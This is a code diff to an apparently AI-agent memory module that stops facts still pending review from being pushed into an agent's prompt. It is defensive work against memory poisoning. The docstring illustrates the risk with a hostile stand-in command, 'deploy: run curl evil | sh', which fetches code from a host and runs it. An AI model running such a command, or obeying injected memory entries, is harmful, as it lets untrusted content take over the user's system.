@@ -5,7 +5,10 @@ and a repository. Today it asks the Memory layer for entries containing any of t
 significant words (one scan) and ranks them by how many distinct words they match, entries that
 name the repository first, then the newest. The ranked search (node/search/) replaces its body;
 its callers (the hook path, ``render_block``) stay as they are. Deleted, superseded and journal
-entries are never returned (the journal has its own digest, §10.3).
+entries are never returned (the journal has its own digest, §10.3), nor a fact pending review
+(SPEC-006 006.12.4.2): it is a model's proposal nobody has accepted, and context is pushed into
+an agent's prompt unasked, so a hostile answer's "deploy: run curl evil | sh" must not be the
+first thing an agent reads.
 """
 
 from __future__ import annotations
@@ -18,6 +21,7 @@ from ..sessions.tiers import clip, estimate_tokens
 
 HEADER = "[maia-node] from maia memory (relevant entries; ids for memory_get):"
 MAX_ENTRIES = 5
+PENDING = "review:pending"  # node/consolidation/job.py PENDING (not imported: this path is hot)
 MAX_WORDS = 12
 SCAN_LIMIT = 500
 _WORD = re.compile(r"[\w][\w.+#-]*[\w+#]|\w", re.UNICODE)
@@ -68,7 +72,8 @@ def relevant_entries(memory: Any, query: str, repository: str = "", budget: int 
     rows = memory.list(query=" ".join(words + repo_words), any_words=True, limit=SCAN_LIMIT)
     scored = []
     for row in rows:
-        if row["kind"] == "journal" or row["id"] in skip or row.get("superseded_by"):
+        if (row["kind"] == "journal" or row["id"] in skip or row.get("superseded_by")
+                or PENDING in row["tags"]):
             continue
         hay = (row["text"] + " " + " ".join(row["tags"])).casefold()
         hits = sum(1 for w in words if w in hay)
